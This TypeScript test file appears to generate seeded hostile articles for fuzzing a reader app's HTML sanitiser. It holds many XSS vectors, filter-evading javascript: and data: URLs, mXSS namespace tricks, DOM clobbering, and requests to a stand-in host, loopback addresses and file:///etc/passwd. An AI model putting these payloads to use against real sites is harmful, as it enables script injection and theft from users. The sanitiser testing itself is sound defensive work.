// Generated hostile articles for the reader, seeded so that a failure names a mutation
// the same seed makes again. Every payload reports with its own id: it calls __pwned(id),
// alert(id), or asks for http://pwned.invalid/id, so a hit says which mutation ran.
// Byte encodings are not a kind: vector-files.ts writes packed files in each of them in turn.
export const KINDS = ['sink', 'nesting', 'namespace', 'broken', 'clobber', 'huge', 'corpus', 'leak', 'escape', 'hexo', 'page'] as const;
export type Kind = (typeof KINDS)[number];

export interface Mutation {
  id: number;
  kind: Kind;
  /** What the test calls it: its id and kind, and the extension Gloss reads it by. */
  name: string;
  /** The markup, as a browser would get it were nothing in the way (the positive control renders it so). */
  html: string;
  /** A file on its own (a post with front matter, a whole page); the others are body fragments, which can share a file. */
  whole: boolean;
}

/** mulberry32: small, fast and the same on every machine. */
function random(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const pick = <T,>(r: () => number, list: readonly T[]): T => list[Math.floor(r() * list.length)];
const b64 = (s: string) => Buffer.from(s).toString('base64');
/** Where a payload that reports by request sends it: a name that resolves nowhere. */
const REPORT_URL = 'http://pwned.invalid';

/** Script that reports `n` to the trap, written every way a filter might not expect. */
const calls = (n: number): string[] => [
  `__pwned(${n})`, `top.__pwned(${n})`, `parent.__pwned(${n})`, `self['__pw'+'ned'](${n})`, `\\u005f_pwned(${n})`,
  `alert(${n})`, `confirm(${n})`, `prompt(${n})`,
  `eval(atob('${b64(`__pwned(${n})`)}'))`, `setTimeout('__pwned(${n})')`, `Function('__pwned(${n})')()`, `[].map.constructor('__pwned(${n})')()`,
  `fetch('${REPORT_URL}/${n}')`, `new Image().src='${REPORT_URL}/${n}'`, `navigator.sendBeacon('${REPORT_URL}/${n}')`, `import('${REPORT_URL}/${n}.js')`,
  `location='${REPORT_URL}/${n}'`, `open('${REPORT_URL}/${n}')`, `top.location.hash='#/pwned/${n}'`,
];

/** Ways to write an attribute's text so that the HTML parser decodes it back. */
const ENTITY_FORMS: ((s: string) => string)[] = [
  (s) => s,
  (s) => [...s].map((c) => `&#${c.codePointAt(0)};`).join(''),
  (s) => [...s].map((c) => `&#x${c.codePointAt(0)!.toString(16)};`).join(''),
  (s) => [...s].map((c) => `&#000${c.codePointAt(0)}`).join(''), // no semicolons, zero-padded
  (s) => s.replace(/[()'._:]/g, (c) => ({ '(': '&lpar;', ')': '&rpar;', "'": '&apos;', '.': '&period;', _: '&lowbar;', ':': '&colon;' })[c]!),
  (s) => [...s].map((c, i) => (i % 2 ? `&#x${c.codePointAt(0)!.toString(16)};` : c)).join(''),
];

/** An attribute's value, encoded and quoted every way HTML allows, and some it only tolerates. */
function quoted(r: () => number, value: string): string {
  const v = pick(r, ENTITY_FORMS)(value);
  switch (Math.floor(r() * 4)) {
    case 0: return `"${v.replace(/"/g, '&quot;')}"`;
    case 1: return `'${v.replace(/'/g, '&#39;')}'`;
    case 2: return v.replace(/[\s"'=<>`]/g, (c) => `&#${c.charCodeAt(0)};`);
    default: return ` "${v.replace(/"/g, '&#34;')}"`;
  }
}

/** ` name=value`, with the separators and letter cases parsers accept. */
function attribute(r: () => number, name: string, value: string): string {
  // A bare / separates only after a tag name or a quoted value, so it always follows a space here.
  const sep = pick(r, [' ', '\n', '\t', '\f', ' /', '\n/ ']);
  return `${sep}${r() < 0.2 ? name.toUpperCase() : name}=${quoted(r, value)}`;
}

/** Elements whose handler fires with no one touching them, and some that need a touch (the DOM check still sees them). */
const HANDLERS: [string, string][] = [
  ['<img src=x{a}>', 'onerror'], ['<img/src="x:x"{a}>', 'onerror'], ['<svg/{a}>', 'onload'], ['<image src=x{a}>', 'onerror'], ['<svg{a}>', 'onload'],
  ['<body{a}>', 'onload'], ['<body{a}>', 'onpageshow'], ['<body{a}>', 'onhashchange'], ['<input autofocus{a}>', 'onfocus'],
  ['<select autofocus{a}></select>', 'onfocus'], ['<textarea autofocus{a}></textarea>', 'onfocus'], ['<div tabindex=1 autofocus{a}>x</div>', 'onfocus'],
  ['<div contenteditable autofocus{a}>x</div>', 'onfocusin'], ['<details open{a}><summary>x</summary></details>', 'ontoggle'],
  ['<video><source src=x{a}></video>', 'onerror'], ['<audio src=x{a}></audio>', 'onerror'], ['<video src=x{a}></video>', 'onerror'],
  ['<input type=image src=x{a}>', 'onerror'], ['<object data=x{a}></object>', 'onerror'], ['<iframe{a}></iframe>', 'onload'],
  ['<style{a}></style>', 'onload'], ['<link rel=stylesheet href=x{a}>', 'onerror'], ['<marquee{a}>x</marquee>', 'onstart'],
  ['<svg><animate attributeName=x dur=1s{a} /></svg>', 'onbegin'], ['<svg><set attributeName=x to=1{a} /></svg>', 'onbegin'],
  ['<style>@keyframes k{}</style><div style="animation-name:k"{a}>x</div>', 'onanimationstart'], ['<frameset{a}></frameset>', 'onload'],
  ['<a href="https://example.com/"{a}>x</a>', 'onmouseover'], ['<p{a}>x</p>', 'onclick'], ['<table{a}><tr><td>x</td></tr></table>', 'onpointerenter'],
  ['<div popover{a}>x</div>', 'onbeforetoggle'], ['<svg><discard{a} /></svg>', 'onbegin'], ['<form{a}><button>x</button></form>', 'onsubmit'],
];

/** Elements that load, run or follow a URL. */
const URL_SINKS = [
  '<a href={u}>x</a>', '<iframe src={u}></iframe>', '<object data={u}></object>', '<embed src={u}>', '<script src={u}></script>',
  '<form action={u}><button>x</button></form>', '<form><button formaction={u}>x</button></form>', '<math><maction actiontype=statusline xlink:href={u}>x</maction></math>',
  '<math href={u}>x</math>', '<svg><a xlink:href={u}><text x=9 y=9>x</text></a></svg>', '<svg><a href={u}><rect width=9 height=9 /></a></svg>',
  '<svg><script href={u}></script></svg>', '<svg><use href={u} /></svg>', '<base href={u}><a href=x>x</a>', '<img src={u}>', '<img srcset={u}>',
  '<video poster={u}></video>', '<table background={u}><tr><td>x</td></tr></table>', '<isindex action={u} type=submit>', '<object><param name=src value={u}></object>',
  '<link rel=import href={u}>', '<a href={u} target=_top>x</a>', '<area href={u}>', '<input type=image formaction={u} src=x>',
];

/** A URL that runs `code`, in the spellings that have got past URL filters. */
function scriptUrl(r: () => number, code: string, n: number): string {
  return pick(r, [
    `javascript:${code}`, `JaVaScRiPt:${code}`, ` \t javascript:${code}`, `java\tscript:${code}`, `java\nscript:${code}`, `\u0001javascript:${code}`,
    `javascript://%0a${encodeURIComponent(code)}`, `javascript:${encodeURIComponent(code)}`, `javascript:/*</a>*/${code}`,
    `data:text/html,<script>__pwned(${n})</script>`, `data:text/html;base64,${b64(`<script>__pwned(${n})</script>`)}`,
    `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="__pwned(${n})"/>`, `vbscript:msgbox(${n})`,
  ]);
}

/** Script elements, in the places and spellings where a parser might run them. */
const SCRIPTS = [
  '<script>{c}</script>', '<script type=text/javascript>{c}</script>', '<script type=module>{c}</script>', '<ScRiPt>{c}</sCrIpT>',
  '<script/x>{c}</script>', '<script>/*</script><script>*/{c}</script>', '<svg><script>{c}</script></svg>', '<svg><script>{e}</script></svg>',
  '<script>{c}<!--</script>', '<template><script>{c}</script></template>', '<noscript><script>{c}</script></noscript>', '<math><script>{c}</script></math>',
  '<script\f>{c}</script>', '<svg><script xlink:href="data:,{c}"></script></svg>',
];

/** A single piece of markup that tries to run the payload reporting `n`. */
function sink(r: () => number, n: number): string {
  const code = pick(r, calls(n));
  const roll = r();
  if (roll < 0.5) {
    const [markup, event] = pick(r, HANDLERS);
    const a = attribute(r, event, code);
    return markup.replace('{a}', () => a);
  }
  if (roll < 0.8) {
    const u = quoted(r, scriptUrl(r, code, n));
    return pick(r, URL_SINKS).replace('{u}', () => u);
  }
  // In SVG, script text is foreign content: entities are decoded before it runs.
  return pick(r, SCRIPTS).replace('{c}', () => code).replace('{e}', () => ENTITY_FORMS[1](code));
}

/** Namespace confusion: foreign content, templates and raw-text elements around a sink (mXSS). */
const NAMESPACES: ((x: string) => string)[] = [
  (x) => `<svg>${x}</svg>`, (x) => `<math>${x}</math>`, (x) => `<svg><foreignObject>${x}</foreignObject></svg>`, (x) => `<math><mtext>${x}</mtext></math>`,
  (x) => `<math><annotation-xml encoding="text/html">${x}</annotation-xml></math>`, (x) => `<math><mi><mglyph>${x}</mglyph></mi></math>`,
  (x) => `<template>${x}</template>`, (x) => `<svg><desc>${x}</desc></svg>`, (x) => `<svg><title>${x}</title></svg>`,
  (x) => `<math><mtext><table><mglyph><style>${x}`, (x) => `<form><math><mtext></form><form><mglyph><style></math>${x}`,
  (x) => `<svg></p><style><a id="</style>${x}">`, (x) => `<noscript><p title="</noscript>${x}">`, (x) => `<svg><style><a title="</style>${x}">`,
  (x) => `<math><style>${x}</style></math>`, (x) => `<svg><![CDATA[</svg>${x}]]>`, (x) => `<select><template>${x}</template></select>`,
  (x) => `<table><caption><svg><foreignObject>${x}`, (x) => `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>${x}">`,
  (x) => `<svg><foreignObject><math><mi><svg>${x}`, (x) => `<xmp></xmp>${x}`, (x) => `<textarea></textarea>${x}`, (x) => `<title></title>${x}`,
  (x) => `<svg><p>${x}`, (x) => `<math><mi><table>${x}`, (x) => `<template><template>${x}</template></template>`, (x) => `<noembed>${x}</noembed>`,
];

const WRAPPERS = ['div', 'section', 'p', 'span', 'b', 'i', 'a href=https://example.com/', 'table><tr><td', 'ul><li', 'ol start=3><li', 'blockquote', 'h2', 'pre', 'code', 'center', 'font', 'figure', 'figcaption', 'details', 'dl><dd', 'sub', 'u', 's', 'article', 'li', 'td'];

/** Elements a wrapper opens: a cell opens a table, its body, a row and the cell. */
const levels = (wrapper: string) => wrapper.split('><').length + (wrapper.startsWith('table') ? 1 : 0);

/**
 * A sink inside many wrappers, or one wrapper repeated 100 to 240 levels deep: deep enough
 * to weigh on the reader, short of the 256 levels past which Gloss refuses a file.
 */
function nest(r: () => number, x: string): string {
  const deep = r() < 0.2;
  const one = pick(r, WRAPPERS);
  const tags = deep ? Array<string>(Math.floor((100 + r() * 140) / levels(one))).fill(one) : Array.from({ length: 1 + Math.floor(r() * 40) }, () => pick(r, WRAPPERS));
  const open = tags.map((t) => `<${t}>`).join('');
  const close = r() < 0.5 ? tags.map((t) => `</${t.split(/[\s>]/)[0]}>`).reverse().join('') : '';
  return `${open}${x}${close}`;
}

/** Markup a browser repairs: truncated, unclosed, misnested, mis-typed. */
const BREAKS: ((x: string, r: () => number) => string)[] = [
  (x, r) => x.slice(0, Math.max(1, Math.floor(r() * x.length))),
  (x, r) => { const i = x.indexOf('>', Math.floor(r() * x.length)); return i < 0 ? x : x.slice(0, i) + x.slice(i + 1); },
  (x, r) => { const i = x.indexOf('"', Math.floor(r() * x.length)); return i < 0 ? `${x}"` : x.slice(0, i) + x.slice(i + 1); },
  (x) => `<!--${x}`, (x) => `--!>${x}<!--->`, (x) => `<p title="${x}`, (x) => `</p></div></table></svg>${x}`, (x) => `<b><i>${x}</b></i>`,
  (x) => `<table>${x}</table>`, (x) => `<table><tr>${x}`, (x) => `<![CDATA[${x}]]>`, (x) => `<?xml ${x}?>`, (x) => `<!DOCTYPE ${x}>`, (x) => `</${x}`,
  (x) => `<a href="${x}`, (x) => `<img src="x${x}`, (x) => x.replace(/</g, '<\0'), (x) => x.replace(/ /g, '\f'), (x) => x.toUpperCase(), (x) => `<!-->${x}`,
  (x, r) => { const i = Math.floor(r() * x.length); return x.slice(0, i) + x.slice(i, i + 8).repeat(3) + x.slice(i); },
  (x, r) => { const i = Math.floor(r() * x.length); return x.slice(0, i) + pick(r, ['<', '>', '"', "'", '`', '=', '/', '&', '\n', '\0']) + x.slice(i + 1); },
  (x) => `<select><option>${x}</option></select>`, (x) => `<style>${x}`, (x) => `<a><table><a>${x}`, (x) => `<frameset>${x}`,
];

const CLOBBER = ['location', 'document', 'gloss', '__pwned', 'top', 'parent', 'opener', 'self', 'window', 'body', 'cookie', 'domain', 'defaultView',
  'getElementById', 'querySelector', 'currentScript', 'root', 'settings', 'api', 'i18n', 'localStorage', 'sessionStorage', 'fetch', 'alert', 'history',
  'navigator', 'attributes', 'nodeType', 'parentNode', 'innerHTML', 'toString', 'constructor', '__proto__', 'article-body', 'app', 'topbar'];

/** DOM clobbering: ids and names that shadow what the page's script reads (window.gloss, document.cookie …). */
function clobber(r: () => number, n: number): string {
  const x = pick(r, CLOBBER);
  return pick(r, [
    `<img name=${x}>`, `<form id=${x}></form>`, `<a id=${x} href="javascript:__pwned(${n})">x</a>`, `<a id=${x}></a><a id=${x} name=href href="https://example.com/?${n}">x</a>`,
    `<form id=${x}><input name=href value="javascript:__pwned(${n})"></form>`, `<iframe name=${x}></iframe>`, `<embed name=${x}>`, `<object id=${x}></object>`,
    `<img id=${x} name=${x} src=x>`, `<output id=${x}>x</output>`, `<div id=${x} data-testid=article-body class=topbar>x</div>`, `<span data-highlight=1 id=${x}>x</span>`,
    `<form name=${x}><img name=attributes></form>`, `<a id=${x} href="cid:__pwned(${n})">x</a>`, `<input form=${x} name=${x}>`,
  ]);
}

/** Huge attributes, attribute lists, texts, spans and numbers of sinks: 16 KB to 1 MB of them. */
function huge(r: () => number, n: number): string {
  const size = r() < 0.1 ? 1_048_576 : pick(r, [16_384, 65_536, 262_144]);
  const filler = pick(r, ['a', '&amp;', '"', '\u4e2d', '<', '&#x3c;', ' ']).repeat(Math.ceil(size / 4));
  return pick(r, [
    `<a href="https://example.com/?${'a'.repeat(size)}" title="${filler}">x</a>${sink(r, n)}`,
    `<img src=x alt="${filler}"${attribute(r, 'onerror', `__pwned(${n})`)}>`,
    `<p ${Array.from({ length: size / 256 }, (_, i) => `a${i}=1`).join(' ')} onclick="__pwned(${n})">x</p>`,
    `<p>${'长文本 '.repeat(size / 8)}</p>${sink(r, n)}`,
    `<table><tr><td colspan=100000000 rowspan=99999999>x</td></tr></table><ol start=99999999999><li>x</li></ol>${sink(r, n)}`,
    Array.from({ length: size / 1024 }, () => sink(r, n)).join(''),
    `<div title="${'"'.repeat(size / 16)}${sink(r, n)}">x</div>`,
  ]);
}

/** Requests out without script: every URL attribute and CSS that can fetch. */
function leak(r: () => number, n: number): string {
  const u = `${REPORT_URL}/${n}`;
  return pick(r, [
    `<img src=${u}.png>`, `<img src=//pwned.invalid/${n}.png>`, `<img srcset="${u}.png 2x">`, `<picture><source srcset=${u}.png><img src=x></picture>`,
    `<div style="background:url(${u})">x</div>`, `<style>body{background:url(${u})}</style>`, `<style>@import url(${u}.css)</style>`,
    `<link rel=stylesheet href=${u}.css>`, `<link rel=prefetch href=${u}>`, `<link rel=preload as=image href=${u}>`, `<a ping=${u} href=https://example.com/>x</a>`,
    `<video poster=${u}.png></video>`, `<audio src=${u}.mp3 autoplay></audio>`, `<video><track src=${u}.vtt></video>`, `<body background=${u}.png>`,
    `<input type=image src=${u}.png>`, `<svg><image href=${u}.png /></svg>`, `<svg><use href=${u}.svg#a /></svg>`, `<svg><filter><feImage href=${u}.png /></filter></svg>`,
    `<meta http-equiv=refresh content="0;url=${u}">`, `<iframe src=${u}></iframe>`, `<object data=${u}></object>`, `<embed src=${u}>`,
    `<div style="list-style-image:url(${u})">x</div>`, `<img src="http://127.0.0.1:1/${n}.png">`, `<img src="http://192.168.0.1/${n}.png">`, `<img src="file:///etc/passwd?${n}">`,
    `<form action=${u}><button>x</button></form>`, `<img src=x style="content:url(${u})">`, `<img src="https://[::1]/${n}.png">`, `<img src="http://2130706433/${n}.png">`,
  ]);
}

/** Markup that tries to leave its box: overlays, app styles, app class names. */
function escape(r: () => number, n: number): string {
  return pick(r, [
    '<div style="position:fixed;inset:0;z-index:2147483647;background:red">x</div>', '<p style="position:absolute;top:0;left:0;width:100vw;height:100vh">x</p>',
    '<style>.topbar{display:none!important}</style>', '<style>*{visibility:hidden}</style>', '<style>body{transform:scale(0)}</style>',
    '<dialog open style="position:fixed;inset:0">x</dialog>', '<div popover=manual>x</div>', '<img src=x style="position:fixed;top:0;width:100vw;height:100vh">',
    '<table style="position:fixed;inset:0"><tr><td>x</td></tr></table>', '<div style="margin-top:-9999px">x</div>', '<span style="display:block;width:99999px">x</span>',
    `<a href="https://example.com/?${n}" style="position:fixed;inset:0;z-index:99999">x</a>`, '<div class="topbar app reader">x</div>', '<div data-testid="article-body">x</div>',
    '<svg style="position:fixed;inset:0" width=9999 height=9999><rect width=9999 height=9999 /></svg>', '<h1 style="font-size:999px">x</h1>', '<div style="zoom:50">x</div>',
  ]) + sink(r, n);
}

/** A payload from the corpus's vectors, reporting `n` instead of alerting. */
function corpusPayload(r: () => number, n: number, payloads: readonly string[]): string {
  const p = pick(r, payloads).replace(/\b(alert|prompt|confirm)\s*(\(\s*[^()]*\)|`[^`]*`)/g, `__pwned(${n})`);
  const contexts: ((x: string) => string)[] = [
    (x) => x, (x) => `<div>${x}</div>`, (x) => `<table><tr><td>${x}</td></tr></table>`, (x) => `<table>${x}</table>`, (x) => `<ul><li>${x}</li></ul>`,
    (x) => `<blockquote>${x}</blockquote>`, (x) => `<a href="https://example.com/">${x}</a>`, (x) => `<p title="${x}">x</p>`, (x) => `<img alt='${x}'>`,
    (x) => `<pre>${x}</pre>`, (x) => `<h2>${x}</h2>`, (x) => `<textarea>${x}</textarea>`, (x) => `<iframe srcdoc="${x.replace(/&/g, '&amp;').replace(/"/g, '&quot;')}"></iframe>`,
    ...NAMESPACES,
  ];
  return pick(r, contexts)(p);
}

/** Hexo front matter whose every value is hostile: markup, script URLs, a bidi override, a YAML tag. */
function frontMatter(r: () => number, n: number): string {
  const hostile = [
    `<img src=x onerror=__pwned(${n})>`, `javascript:__pwned(${n})`, `"><script>__pwned(${n})</script>`, `https://example.com/" onmouseover="__pwned(${n})`,
    `data:text/html,<script>__pwned(${n})</script>`, `</title><svg onload=__pwned(${n})>`, `\u202e${n}gpj.exe`, `${REPORT_URL}/${n}.png`,
  ];
  const v = () => JSON.stringify(pick(r, hostile));
  return [
    '---', `title: ${v()}`, `author: ${v()}`, `headimg: ${v()}`, `thumbnail: ${v()}`, `cover: ${v()}`, `link: ${v()}`, `url: ${v()}`, `lang: ${v()}`,
    `site: ${v()}`, `excerpt: ${v()}`, `date: ${v()}`, `tags: [${v()}, ${v()}]`, `categories:\n - ${v()}`, `description: !!js/function "function(){__pwned(${n})}"`, '---', '',
  ].join('\n');
}

/** A hexo post: hostile front matter over Markdown with script links, or raw HTML sinks. */
function hexo(r: () => number, n: number): { text: string; ext: string } {
  const body = pick(r, [
    `正文 ${n}。\n\n[点这里](javascript:__pwned(${n}))\n\n[x](JaVaScRiPt:__pwned(${n}))\n\n<javascript:__pwned(${n})>\n\n![x](javascript:__pwned(${n}))`,
    `正文 ${n}。\n\n[x][r]\n\n[r]: javascript:__pwned(${n}) "t"\n\n[y](&#106;avascript&#58;__pwned(${n}))`,
    `正文 ${n}。\n\n${sink(r, n)}\n\n> ${sink(r, n)}\n\n- ${sink(r, n)}\n\n| a | b |\n|---|---|\n| ${sink(r, n).replace(/\|/g, '')} | x |`,
    `正文 ${n}。\n\n\`\`\`html\n${sink(r, n)}\n\`\`\`\n\n\`${sink(r, n)}\`\n\n[x](https://example.com/ "${sink(r, n).replace(/"/g, "'")}")`,
    `<p>正文 ${n}。</p>\n${sink(r, n)}\n<p>结束。</p>`,
  ]);
  return { text: `${frontMatter(r, n)}${body}\n`, ext: '.md' };
}

/** A saved page with a hostile head (base, refresh, canonical and og: URLs, its own CSP) around sinks. */
function page(r: () => number, n: number): string {
  const head = [
    `<title>Page ${n}</title>`, `<base href="javascript:__pwned(${n})//">`, `<meta http-equiv="refresh" content="0;url=${REPORT_URL}/${n}">`,
    `<link rel=canonical href="javascript:__pwned(${n})">`, `<meta property="og:url" content="javascript:__pwned(${n})">`,
    `<meta property="og:image" content="javascript:__pwned(${n})">`, `<meta name="author" content="<img src=x onerror=__pwned(${n})>">`,
    `<script>__pwned(${n})</script>`, `<style>*{display:none}</style>`, `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  ].filter(() => r() < 0.6);
  const para = `<p>${'这是一段足够长的正文，让正文提取把它当作文章。'.repeat(8)}</p>`;
  return `<!DOCTYPE html><html lang="${pick(r, ['zh', `"><img src=x onerror=__pwned(${n})>`])}"><head><meta charset="utf-8">${head.join('')}</head><body${attribute(r, 'onload', `__pwned(${n})`)}><article><h1>Page ${n}</h1>${para}${sink(r, n)}${para}${sink(r, n)}</article></body></html>`;
}

/** `count` mutations from `seed`, each kind in turn; `payloads` are the corpus's vectors (vectors.json). */
export function mutations(count: number, seed: number, payloads: readonly string[]): Mutation[] {
  const r = random(seed);
  return Array.from({ length: count }, (_, i) => {
    const id = i + 1;
    const kind = KINDS[i % KINDS.length];
    let ext = pick(r, ['.html', '.html', '.html', '.htm', '.txt']);
    let html: string;
    switch (kind) {
      case 'sink': html = sink(r, id); break;
      case 'nesting': html = nest(r, sink(r, id)); break;
      case 'namespace': html = pick(r, NAMESPACES)(sink(r, id)); break;
      case 'broken': html = pick(r, BREAKS)(r() < 0.5 ? sink(r, id) : pick(r, NAMESPACES)(sink(r, id)), r); break;
      case 'clobber': html = clobber(r, id) + (r() < 0.5 ? sink(r, id) : ''); break;
      case 'huge': html = huge(r, id); break;
      case 'corpus': html = corpusPayload(r, id, payloads); break;
      case 'leak': html = leak(r, id); break;
      case 'escape': html = escape(r, id); break;
      case 'hexo': ({ text: html, ext } = hexo(r, id)); break;
      case 'page': html = page(r, id); ext = '.html'; break;
    }
    return { id, kind, name: `m${String(id).padStart(5, '0')}-${kind}${ext}`, html, whole: kind === 'hexo' || kind === 'page' };
  });
}

